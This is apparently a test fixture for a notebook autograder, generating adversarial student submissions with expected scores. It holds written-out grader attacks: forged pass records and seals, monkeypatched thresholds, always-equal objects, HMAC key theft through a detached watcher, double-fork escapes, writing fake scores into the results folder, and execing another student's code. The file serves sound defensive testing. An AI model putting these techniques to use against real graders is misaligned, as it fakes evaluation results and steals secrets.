"""A corpus of exercise-01 submissions for ``labkit grade``, made from the real solution.

Each entry is a student who did something a grader must survive or see through, and the score the
grader must give. Notebooks are written from ``solutions/01_event_loop_blocking.ipynb`` and
``exercises/01_event_loop_blocking.ipynb`` by exact text replacements that fail loudly when the
solution changes, so the corpus always follows the real exercise.
"""

from __future__ import annotations

import copy
from dataclasses import dataclass
from pathlib import Path

import nbformat
from helpers import EXERCISES, SOLUTIONS, replace_once

SOLUTION_01 = SOLUTIONS / "01_event_loop_blocking.ipynb"
EXERCISE_01 = EXERCISES / "01_event_loop_blocking.ipynb"

# The solution lines the corpus rewrites.
LOGIN = "return await loop.run_in_executor(threads, labkit.hash_password, password, SALT, COST)"
REPORT = "return await loop.run_in_executor(processes, labkit.count_primes, limit)"
REPORT_DEF = "async def count_report(limit: int) -> int:"
LOGIN_DEF = "async def login(password: str) -> str:"
CHECK_HASH = 'await labkit.check("ex01.offload_hash", login, cost=COST)'
CHECK_PRIMES = 'await labkit.check("ex01.offload_primes", count_report)'

RESULT_MIME = "application/vnd.labkit.check+json"

#: Every student of the corpus, so tests can be parametrized before the corpus is written.
STUDENTS = ("alice", "bob", "carol", "dan", "dave", "erin", "frank", "grace", "heidi", "ivan", "judy",
            "mallory", "oscar", "peggy", "sybil", "trent", "uma", "victor", "walter", "wendy")


@dataclass(frozen=True)
class Expected:
    """What the grader must give one student: exercise, points, and per-part statuses or phrases."""

    exercise: str
    points: float
    max_points: float
    status: str = "graded"
    parts: tuple[tuple[str, str, str], ...] = ()  # (part, status, phrase in the message)


def _cell_index(nb, text: str) -> int:
    found = [i for i, cell in enumerate(nb.cells) if cell.cell_type == "code" and text in cell.source]
    assert len(found) == 1, f"expected one cell with {text!r}: update tests/grading_corpus.py"
    return found[0]


def solution():
    return nbformat.read(SOLUTION_01, as_version=4)


def exercise():
    return nbformat.read(EXERCISE_01, as_version=4)


def partly_right():
    """Login right; the report in a thread (no second core): part 1 and the hidden check pass."""
    return replace_once(solution(), REPORT, "return await loop.run_in_executor(threads, labkit.count_primes, limit)")


def wrong_answers():
    """Hashing on the loop, counting in a thread: every part fails."""
    nb = replace_once(solution(), LOGIN, "return labkit.hash_password(password, SALT, COST)")
    return replace_once(nb, REPORT, "return await loop.run_in_executor(threads, labkit.count_primes, limit)")


def infinite_loop():
    """The report's cell loops forever before defining anything."""
    return replace_once(solution(), REPORT_DEF, "while True:\n    pass\n\n" + REPORT_DEF)


def exit_in_check():
    """count_report ends the kernel with os._exit(1) when the check calls it."""
    return replace_once(solution(), REPORT, "import os\n    os._exit(1)")


def segfault():
    """The login cell crashes the kernel (a NULL read through ctypes) before defining login."""
    return replace_once(solution(), LOGIN_DEF, "import ctypes\nctypes.string_at(0)\n\n" + LOGIN_DEF)


def edited_check():
    """Login blocks the loop; its check cell is edited to print a pass and show a passing record."""
    nb = replace_once(solution(), LOGIN, "return labkit.hash_password(password, SALT, COST)")
    fake = (
        'from IPython.display import display\n'
        'print("✔ ex01.offload_hash passed: login() returns the right hash and the event loop stays free.")\n'
        f'display({{"{RESULT_MIME}": {{"part": "ex01.offload_hash", "passed": True, "message": "ok"}}}}, raw=True)'
    )
    return replace_once(nb, CHECK_HASH, fake)


def deleted_check():
    """The solution with the first check cell deleted: the grader puts it back."""
    nb = solution()
    del nb.cells[_cell_index(nb, CHECK_HASH)]
    return nb


def redefined_names():
    """Partly right, then `labkit` and `check` rebound to fakes that display passing records."""
    nb = partly_right()
    fake = nbformat.v4.new_code_cell(
        "import labkit as _real\n"
        "from IPython.display import display\n\n"
        "async def check(part, *args, **kwargs):\n"
        f"    display({{'{RESULT_MIME}': {{'part': part, 'passed': True, 'message': 'fake'}},\n"
        "             'text/plain': f'✔ {part} passed: fake'}, raw=True)\n\n"
        "class _Fake:\n"
        "    check = staticmethod(check)\n"
        "    def __getattr__(self, name):\n"
        "        return getattr(_real, name)\n\n"
        "labkit = _Fake()"
    )
    nb.cells.insert(_cell_index(nb, LOGIN_DEF) + 1, fake)
    return nb


def fake_records():
    """The untouched exercise with fakes everywhere: a printed pass line, displayed check records
    (in a cell of its own and from inside login, while the check runs), and a forged grader seal."""
    nb = exercise()
    forge = (
        "from IPython.display import display\n"
        "for part in ('ex01.offload_hash', 'ex01.offload_primes', 'ex01.many_logins'):\n"
        "    print(f'✔ {part} passed: looks right')\n"
        f"    display({{'{RESULT_MIME}': {{'part': part, 'passed': True, 'message': 'fake'}}}}, raw=True)"
    )
    nb.cells.insert(2, nbformat.v4.new_code_cell(forge))
    login = _cell_index(nb, LOGIN_DEF)
    nb.cells[login].source = (
        "from IPython.display import display\n\n"
        f"{LOGIN_DEF}\n"
        f"    display({{'{RESULT_MIME}': {{'part': 'ex01.offload_hash', 'passed': True,\n"
        "             'message': 'fake'}}, raw=True)\n"
        "    display({'application/vnd.labkit.grade-seal+json': {'part': 'ex01.offload_hash', 'passed': True,\n"
        "             'message': '', 'token': '0' * 64}}, raw=True)\n"
        "    return 'not a hash'\n"
    )
    return nb


def agreeable_answers():
    """No work at all: every function returns an object that says it equals whatever it is compared
    with (its __eq__ answers True, its __ne__ False, also as an int subclass)."""
    nb = exercise()
    login = _cell_index(nb, LOGIN_DEF)
    nb.cells[login].source = (
        "class Agreeable(int):\n"
        "    def __eq__(self, other):\n"
        "        return True\n\n"
        "    def __ne__(self, other):\n"
        "        return False\n\n"
        "    __hash__ = int.__hash__\n\n"
        "class AgreeableList(list):\n"
        "    __eq__ = Agreeable.__eq__\n"
        "    __ne__ = Agreeable.__ne__\n\n"
        f"{LOGIN_DEF}\n"
        "    return Agreeable(0)\n"
    )
    report = _cell_index(nb, REPORT_DEF)
    nb.cells[report].source = f"{REPORT_DEF}\n    return Agreeable(0)\n"
    return nb


BLOCKING_LOGIN = "return labkit.hash_password(password, SALT, COST)"
BLOCKING_REPORT = "return labkit.count_primes(limit)"


def blocking():
    """Both handlers compute on the loop, as in the exercise's "today's version"."""
    return replace_once(replace_once(solution(), LOGIN, BLOCKING_LOGIN), REPORT, BLOCKING_REPORT)


def patched_constants():
    """Blocking code, and the check's thresholds set so high that blocking looks fine."""
    nb = blocking()
    patch = nbformat.v4.new_code_cell(
        "import labkit.grading.ex01 as _ex01\n_ex01.BLOCKED_SHARE = _ex01.IN_PROCESS_SHARE = 1e9")
    nb.cells.insert(_cell_index(nb, LOGIN_DEF), patch)
    return nb


def patched_class():
    """Blocking code, and the probe's timeline replaced so that it never sees a lag."""
    nb = blocking()
    patch = nbformat.v4.new_code_cell("import labkit.probe\nlabkit.probe.LoopProbe.timeline = lambda self: []")
    nb.cells.insert(_cell_index(nb, LOGIN_DEF), patch)
    return nb


def patched_during_check():
    """Blocking login that lowers the bar from inside, the first time the check calls it."""
    return replace_once(blocking(), BLOCKING_LOGIN,
                    "import labkit.grading.ex01 as _ex01\n"
                    "    _ex01.BLOCKED_SHARE = 1e9\n"
                    "    " + BLOCKING_LOGIN)


def extra_cells():
    """The solution with the student's own cells added between and after the parts."""
    nb = solution()
    login = _cell_index(nb, LOGIN_DEF)
    nb.cells.insert(login + 1, nbformat.v4.new_code_cell("# trying things out\nattempts = []"))
    nb.cells.insert(login + 2, nbformat.v4.new_markdown_cell("My notes: a thread suits scrypt."))
    nb.cells.append(nbformat.v4.new_code_cell("print('done, attempts:', attempts)"))
    return nb


def exercise_90() -> nbformat.NotebookNode:
    """A tiny second exercise, with a check registered by its own first cell."""
    setup = (
        "import labkit\n"
        "from labkit.grading.checks import Fail, register\n\n"
        '@register("ex90.answer")\n'
        "async def _check_answer(answer):\n"
        "    if answer != 42:\n"
        '        raise Fail(f"the answer is 42, not {answer}")\n'
        '    return "the answer is 42."'
    )
    answer = nbformat.v4.new_code_cell("### BEGIN SOLUTION\nanswer = 6 * 7\n### END SOLUTION")
    check = nbformat.v4.new_code_cell('await labkit.check("ex90.answer", answer)',
                                      metadata={"labkit": {"check": "ex90.answer", "points": 2}})
    nb = nbformat.v4.new_notebook(cells=[nbformat.v4.new_code_cell(setup), answer, check])
    nb.metadata = copy.deepcopy(solution().metadata)
    nb.metadata["labkit"] = {"exercise": "ex90", "lab": "90_tiny"}
    return nb


def _write(path: Path, nb) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    nbformat.write(nb, path)


def build(root: Path) -> tuple[Path, Path, dict[str, Expected]]:
    """Write the solutions folder (ex01 and ex90) and the submissions; return them and the scores due."""
    solutions = root / "solutions"
    submissions = root / "submissions"
    _write(solutions / SOLUTION_01.name, solution())
    _write(solutions / "90_tiny.ipynb", exercise_90())
    full = (("ex01.offload_hash", "passed", ""), ("ex01.offload_primes", "passed", ""),
            ("ex01.many_logins", "passed", ""))
    corpus = {
        "alice": (solution(), Expected("ex01", 7, 7, parts=full)),
        "bob": (exercise(), Expected("ex01", 0, 7, parts=(
            ("ex01.offload_hash", "failed", "not done yet"), ("ex01.offload_primes", "failed", "not done yet"),
            ("ex01.many_logins", "failed", "not done yet")))),
        "carol": (wrong_answers(), Expected("ex01", 0, 7, parts=(
            ("ex01.offload_hash", "failed", "still blocks the event loop"),
            ("ex01.offload_primes", "failed", "computed in this process")))),
        "dan": (partly_right(), Expected("ex01", 4, 7, parts=(
            ("ex01.offload_hash", "passed", ""),
            ("ex01.offload_primes", "failed", "takes turns with the event loop"),
            ("ex01.many_logins", "passed", "")))),
        "erin": (infinite_loop(), Expected("ex01", 4, 7, parts=(
            ("ex01.offload_primes", "failed", "ran longer than"), ("ex01.many_logins", "passed", "")))),
        "frank": (exit_in_check(), Expected("ex01", 4, 7, parts=(
            ("ex01.offload_primes", "crashed", "exited with status 1"), ("ex01.many_logins", "passed", "")))),
        "grace": (segfault(), Expected("ex01", 3, 7, parts=(
            ("ex01.offload_hash", "failed", "segmentation fault"), ("ex01.offload_primes", "passed", "")))),
        "ivan": (edited_check(), Expected("ex01", 3, 7, parts=(
            ("ex01.offload_hash", "failed", "still blocks the event loop"),
            ("ex01.offload_primes", "passed", "")))),
        "judy": (deleted_check(), Expected("ex01", 7, 7, parts=full)),
        "mallory": (redefined_names(), Expected("ex01", 4, 7, parts=(
            ("ex01.offload_primes", "failed", "takes turns with the event loop"),))),
        "oscar": (fake_records(), Expected("ex01", 0, 7, parts=(
            ("ex01.offload_hash", "failed", "The grader ignored"),))),
        "peggy": (extra_cells(), Expected("ex01", 7, 7, parts=full)),
        "sybil": (agreeable_answers(), Expected("ex01", 0, 7, parts=(
            ("ex01.offload_hash", "failed", "which the check does not compare"),
            ("ex01.offload_primes", "failed", "which the check does not compare"),
            ("ex01.many_logins", "failed", "which the check does not compare")))),
    }
    changed = "your notebook changed labkit.grading.ex01.BLOCKED_SHARE"
    corpus.update({
        "uma": (patched_constants(), Expected("ex01", 0, 7, parts=(
            ("ex01.offload_hash", "failed", changed), ("ex01.offload_primes", "failed", changed)))),
        "victor": (patched_class(), Expected("ex01", 0, 7, parts=(
            ("ex01.offload_hash", "failed", "your notebook changed labkit.probe.LoopProbe.timeline"),))),
        "wendy": (patched_during_check(), Expected("ex01", 0, 7, parts=(
            ("ex01.offload_hash", "failed", changed + " while the check ran"),))),
    })
    expected = {}
    for student, (nb, due) in corpus.items():
        _write(submissions / f"{student}.ipynb", nb)
        expected[student] = due
    # One folder per student, and a file named like exercise 01 that is exercise 02 inside.
    (submissions / "alice.ipynb").rename(_folder(submissions / "alice") / SOLUTION_01.name)
    _write(submissions / "dave" / SOLUTION_01.name, exercise_90())
    expected["dave"] = Expected("ex90", 2, 2, parts=(("ex90.answer", "passed", ""),))
    text = nbformat.writes(solution())  # cut off mid-upload, in a folder named for the student
    (_folder(submissions / "heidi") / SOLUTION_01.name).write_text(text[: len(text) // 2], encoding="utf-8")
    expected["heidi"] = Expected("ex01", 0, 7, status="rejected",
                                 parts=(("", "rejected", "not valid notebook JSON"),))
    (submissions / "trent.ipynb").write_bytes(b"")
    expected["trent"] = Expected("", 0, 0, status="rejected", parts=(("", "rejected", "the file is empty"),))
    # JSON nested deeper than Python's recursion limit: one rejected line, and the batch goes on.
    (submissions / "walter.ipynb").write_bytes(b"[" * 200_000 + b"]" * 200_000)
    expected["walter"] = Expected("", 0, 0, status="rejected", parts=(("", "rejected", "nests JSON"),))
    assert sorted(expected) == sorted(STUDENTS)
    return solutions, submissions, expected


def _folder(path: Path) -> Path:
    path.mkdir(parents=True, exist_ok=True)
    return path


# ---------------------------------------------------------------------------- hostile submissions
# Students who attack the grader itself rather than the exercise (issue 15, holes 3 to 7). They
# are graded in a batch of their own beside a correct submission (tests/test_grade_hostile.py).

SEAL_MIME = "application/vnd.labkit.grade-seal+json"


def key_thief(loot: str) -> nbformat.NotebookNode:
    """Blocking code that forges passing seals with any key it can steal: a detached watcher copies
    every ``arm-*.json`` it can find into ``loot``, one cell crashes the kernel once so that a
    replacement kernel's key is written while the watcher runs, and ``login``/``count_report``
    display seals signed with the stolen keys, then leave before the real check can seal a failure."""
    nb = blocking()
    watcher = (
        "import glob, os, shutil, time\n"
        "end = time.time() + 90\n"
        "while time.time() < end:\n"
        "    for path in glob.glob('/tmp/labkit-grade-*/**/arm-*.json', recursive=True):\n"
        "        try:\n"
        f"            shutil.copy(path, os.path.join({loot!r}, str(time.time_ns()) + '.json'))\n"
        "        except OSError:\n"
        "            pass\n"
        "    time.sleep(0.005)\n"
    )
    steal = nbformat.v4.new_code_cell(
        "import glob, json, os, subprocess, sys\n"
        f"LOOT = {loot!r}\n"
        "os.makedirs(LOOT, exist_ok=True)\n"
        f"subprocess.Popen([sys.executable, '-c', {watcher!r}], start_new_session=True,\n"
        "                 stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)\n"
        "named = os.environ.get('LABKIT_GRADE_ARM')  # the grader's first cell removed it, but try\n"
        "if named and os.path.exists(named):\n"
        "    import shutil\n"
        "    shutil.copy(named, os.path.join(LOOT, 'env.json'))\n")
    crash = nbformat.v4.new_code_cell(
        "import time\ntime.sleep(1)\n"
        "if not os.path.exists(os.path.join(LOOT, 'crashed')):\n"
        "    open(os.path.join(LOOT, 'crashed'), 'w').close()\n"
        "    os._exit(1)\n")
    forge = nbformat.v4.new_code_cell(
        "import hashlib, hmac\nfrom IPython.display import display\n\n"
        "def _stolen():\n"
        "    keys = []\n"
        "    for path in glob.glob(os.path.join(LOOT, '*.json')):\n"
        "        try:\n"
        "            keys.append(bytes.fromhex(json.load(open(path))['key']))\n"
        "        except (OSError, ValueError, KeyError):\n"
        "            pass\n"
        "    return keys\n\n"
        "def _forge(*parts):\n"
        "    keys = _stolen()\n"
        "    for key in keys:\n"
        "        for part in parts:\n"
        "            payload = json.dumps([part, True, ''], ensure_ascii=True).encode('ascii')\n"
        "            token = hmac.new(key, payload, hashlib.sha256).hexdigest()\n"
        f"            display({{{SEAL_MIME!r}: {{'part': part, 'passed': True, 'message': '', 'token': token}}}},\n"
        "                    raw=True)\n"
        "    if keys:\n"
        "        raise KeyboardInterrupt  # leave before the real check seals its failure\n")
    first = _cell_index(nb, LOGIN_DEF)
    nb.cells[first:first] = [steal, crash, forge]
    nb = replace_once(nb, BLOCKING_LOGIN, "_forge('ex01.offload_hash', 'ex01.many_logins')\n    " + BLOCKING_LOGIN)
    return replace_once(nb, BLOCKING_REPORT, "_forge('ex01.offload_primes')\n    " + BLOCKING_REPORT)


def escaper(marker: str, port: int) -> nbformat.NotebookNode:
    """The solution, plus processes that try to outlive grading (a new session, a double-fork
    daemon; their command lines carry ``marker``) and a connection to a server on the grader's
    loopback at ``port``."""
    nb = solution()
    sleeper = f"import time; time.sleep(300)  # {marker}"
    nb.cells.append(nbformat.v4.new_code_cell(
        "import os, socket, subprocess, sys\n"
        f"subprocess.Popen([sys.executable, '-c', {sleeper!r}], start_new_session=True,\n"
        "                 stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)\n"
        "if os.fork() == 0:\n"
        "    os.setsid()\n"
        "    if os.fork() == 0:\n"
        f"        os.execv(sys.executable, [sys.executable, '-c', {sleeper!r}])\n"
        "    os._exit(0)\n"
        "os.wait()\n"
        "try:\n"
        f"    socket.create_connection(('127.0.0.1', {port}), timeout=2).sendall(b'hello from a kernel')\n"
        "except OSError:\n"
        "    pass\n"))
    return nb


def shm_leaker() -> nbformat.NotebookNode:
    """The solution, plus shared memory that nobody removes: a SharedArray that outlives close(),
    a multiprocessing segment, a raw file in /dev/shm, and then the kernel killed by SIGKILL."""
    nb = solution()
    nb.cells.append(nbformat.v4.new_code_cell(
        "import os, signal\nfrom multiprocessing import shared_memory\nimport labkit\n"
        "kept = labkit.SharedArray.create(1_000_000, unlink_on_close=False)\n"
        "raw = shared_memory.SharedMemory(create=True, size=4_000_000)\n"
        "open('/dev/shm/zz_leaked_by_a_student', 'wb').write(b'x' * 1_000_000)\n"
        "os.kill(os.getpid(), signal.SIGKILL)\n"))
    return nb


def trespasser(out: Path, solutions: Path) -> nbformat.NotebookNode:
    """Blocking code that writes where grades are kept: results and feedback in ``out``, a file in
    ``solutions``, and whatever --out it can read off its parents' command lines."""
    nb = blocking()
    nb.cells.append(nbformat.v4.new_code_cell(
        "import os, json\n"
        f"targets = [{str(out / 'results' / 'zz_injected.ex01.json')!r}, {str(out / 'feedback' / 'zz_injected.md')!r},\n"
        f"           {str(out / 'zz_injected.csv')!r}, {str(solutions / 'zz_injected.ipynb')!r}]\n"
        "pid = os.getppid()\n"
        "while pid > 1:\n"
        "    try:\n"
        "        words = open(f'/proc/{pid}/cmdline', 'rb').read().split(b'\\0')\n"
        "        for flag in (b'--out', b'--solutions'):\n"
        "            if flag in words:\n"
        "                targets.append(os.path.join(words[words.index(flag) + 1].decode(), 'zz_from_cmdline'))\n"
        "        pid = int(open(f'/proc/{pid}/stat').read().rsplit(')', 1)[1].split()[1])\n"
        "    except (OSError, ValueError, IndexError):\n"
        "        break\n"
        "for target in targets:\n"
        "    try:\n"
        "        os.makedirs(os.path.dirname(target), exist_ok=True)\n"
        "        with open(target, 'w') as handle:\n"
        "            json.dump({'score': 7, 'injected': True}, handle)\n"
        "    except OSError:\n"
        "        pass\n"))
    return nb


def flooder() -> nbformat.NotebookNode:
    """Blocking code that displays 600 large records of the grader's own seal type."""
    nb = blocking()
    nb.cells.append(nbformat.v4.new_code_cell(
        "from IPython.display import display\n"
        "for i in range(600):\n"
        f"    display({{{SEAL_MIME!r}: {{'part': 'ex01.offload_hash', 'passed': True, 'message': 'x' * 100_000,\n"
        "                            'token': '0' * 64}}, raw=True)\n"))
    return nb


def copycat(other: Path) -> nbformat.NotebookNode:
    """Blocking code that, at grading time, replaces its ``login`` and ``count_report`` with those of
    another student's notebook ``other``, read from the submissions folder."""
    nb = blocking()

    def borrow(definition: str) -> str:
        return (
            "\n\nimport json\n"
            "try:\n"
            f"    _cells = json.load(open({str(other)!r}))['cells']\n"
            "except (OSError, ValueError):\n"
            "    _cells = []\n"
            "for _cell in _cells:\n"
            "    _source = ''.join(_cell['source'])\n"
            f"    if _cell['cell_type'] == 'code' and _source.startswith({definition!r}):\n"
            "        exec(_source, globals())\n")

    for definition in (LOGIN_DEF, REPORT_DEF):
        nb.cells[_cell_index(nb, definition)].source += borrow(definition)
    return nb
